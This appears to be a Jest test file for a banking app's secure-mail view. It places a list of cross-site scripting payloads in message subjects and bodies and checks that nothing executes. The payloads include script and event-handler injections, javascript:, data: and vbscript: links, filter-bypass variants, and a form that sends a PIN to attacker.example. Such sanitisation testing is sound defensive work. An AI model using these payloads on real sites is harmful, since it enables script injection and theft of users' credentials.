/**
 * Hostile mail through the whole app (issue 11, DECISIONS.md "Security"): payloads in subjects and bodies of
 * inbox messages and bulletins, put in the fake bank's state. Whatever arrives, nothing runs, no element
 * carries an event handler, nothing that runs, styles, submits or embeds is added, and no link leads to
 * javascript:, data: or vbscript:. Subjects read literally; bodies keep only the harmless formatting.
 */
import { act, screen, waitFor, within } from '@testing-library/react';
import type { MailerRecord, MailRecord } from '@mocks/digx/bank/types';
import { bank } from '@mocks/digx/testing';
import { decodeEntities } from '@/shared/api/decodeEntities';
import { openPayments } from '@/testing/paymentSteps';

const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">Confirm</a>',
  '<a href="JaVaScRiPt:alert(1)">Confirm</a>',
  '<a href="  javascript:alert(1)">Confirm</a>',
  '<a href="jav&#x09;ascript:alert(1)">Confirm</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Open</a>',
  '<a href="vbscript:msgbox(1)">Open</a>',
  '&lt;script&gt;alert(1)&lt;&#x2f;script&gt;',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;svg onload=alert(1)&#62;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p title="</p><img src=x onerror=alert(1)>">x</p>',
  '<style>body { display: none }</style>',
  '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">Covered</p>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://attacker.example/"><input name="pin"><button formaction="javascript:alert(1)">Go</button></form>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="https://attacker.example/x.css">',
  '<div onclick="alert(1)" onmouseover="alert(1)">Hover</div>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '"><script>alert(1)</script>',
];

const UNSAFE_ADDRESS = /^(javascript|data|vbscript):/i;
const FROM_THE_MESSAGE = 'script, iframe, object, embed, form, style, link, meta, base, svg, math, img, input, video';

function expectNothingInjected() {
  const elements = Array.from(document.querySelectorAll('*'));
  const handlers = elements.flatMap((el) => el.getAttributeNames().filter((name) => name.toLowerCase().startsWith('on')).map((name) => `${el.tagName} ${name}`));
  expect(handlers).toEqual([]);
  expect(Array.from(screen.getByRole('main').querySelectorAll(FROM_THE_MESSAGE)).map((el) => el.outerHTML)).toEqual([]);
  const addresses = elements.flatMap((el) => ['href', 'src', 'action', 'formaction', 'data'].map((name) => el.getAttribute(name) ?? ''));
  expect(addresses.filter((address) => UNSAFE_ADDRESS.test(address.replace(/\s+/g, '')))).toEqual([]);
  expect(screen.getByRole('main').querySelectorAll('[style]')).toHaveLength(0);
  expect(window.alert).not.toHaveBeenCalled();
}

function hostileMail(i: number, payload: string): MailRecord {
  const template = bank.state.mails.find((m) => m.internal.ownerUserId === 'RETAIL1' && m.messageType === 'M' && m.messageUserMappings[0].msgFlag === 'T')!;
  const mail: MailRecord = {
    ...template,
    messageId: { displayValue: `xxxx9${String(i).padStart(2, '0')}`, value: `HOSTILE${i}` },
    subject: payload,
    messageBody: `<p>Marker ${i}</p>${payload}`,
    threadId: `HOSTILE${i}`,
    messageUserMappings: [{ ...template.messageUserMappings[0], status: 'U' }],
    internal: { ...template.internal, at: bank.clock.now().getTime() + i },
  };
  bank.state.mails.push(mail);
  return mail;
}

function hostileBulletin(i: number, payload: string): MailerRecord {
  const template = bank.state.mailers.find((m) => m.userId === 'RETAIL1')!;
  const mailer: MailerRecord = { ...template, messageId: { displayValue: `xxxx8${i}`, value: `BULLETIN${i}` }, mapId: `H${i}`, subject: payload, status: 'U', messageBody: `<p>Marker ${i}</p>${payload}` };
  bank.state.mailers.push(mailer);
  return mailer;
}

const realAlert = window.alert;
beforeEach(() => {
  window.alert = jest.fn();
});
afterEach(() => {
  window.alert = realAlert;
});

describe('hostile secure mail', () => {
  it('lists hostile subjects as text in the inbox and the bulletins', async () => {
    PAYLOADS.forEach((payload, i) => {
      hostileMail(i, payload);
      hostileBulletin(i, payload);
    });
    const { user } = await openPayments('/secure-mail/f/inbox', 'RETAIL1', { form: false });
    const inbox = await screen.findByRole('list', { name: 'Inbox' });
    for (const payload of PAYLOADS) expect(within(inbox).getAllByText(decodeEntities(payload), { normalizer: (t) => t }).length).toBeGreaterThan(0);
    expectNothingInjected();
    await user.click(screen.getByRole('link', { name: /^Bulletins/ }));
    const bulletins = await screen.findByRole('list', { name: 'Bulletins' });
    expect(within(bulletins).getAllByRole('link').length).toBeGreaterThanOrEqual(PAYLOADS.length);
    expectNothingInjected();
  });

  it.each(['RETAIL1', 'CORP1'] as const)("opens every seeded message and bulletin of %s, hostile ones included, safely", async (userId) => {
    const inbox = bank.state.mails.filter((m) => m.internal.ownerUserId === userId && m.messageType === 'M');
    const bulletins = bank.state.mailers.filter((m) => m.userId === userId);
    const { router } = await openPayments('/secure-mail/f/inbox', userId, { form: false });
    const opened = [
      ...inbox.map((m) => [m.messageUserMappings[0].msgFlag === 'T' ? 'inbox' : 'outbox', m.messageId.value, m.subject]),
      ...bulletins.map((b) => ['bulletins', b.messageId.value, b.subject]),
    ];
    for (const [folder, id, subject] of opened) {
      await act(() => router.navigate(`/secure-mail/f/${folder}/${id}`));
      await waitFor(() => expect(screen.getByRole('heading', { level: 1 }).textContent).toBe(decodeEntities(subject)));
      await waitFor(() => expect(screen.queryByText(/^Loading the message/)).not.toBeInTheDocument());
      expectNothingInjected();
    }
  }, 30000);

  it.each(PAYLOADS.map((payload, i) => [i, payload] as const))('opens hostile message and bulletin %i safely: %s', async (i, payload) => {
    const mail = hostileMail(i, payload);
    hostileBulletin(i, payload);
    const { user } = await openPayments(`/secure-mail/f/inbox/${mail.messageId.value}`, 'RETAIL1', { form: false });
    expect(await screen.findByText(`Marker ${i}`)).toBeInTheDocument();
    expect(screen.getByRole('heading', { level: 1 }).textContent).toBe(decodeEntities(payload));
    expectNothingInjected();

    await user.click(screen.getByRole('link', { name: /^Bulletins/ }));
    const bulletins = await screen.findByRole('list', { name: 'Bulletins' });
    await user.click(within(bulletins).getAllByRole('link').find((link) => link.getAttribute('href')?.endsWith(`/BULLETIN${i}`))!);
    expect(await screen.findByText(`Marker ${i}`)).toBeInTheDocument();
    expectNothingInjected();
  });
});
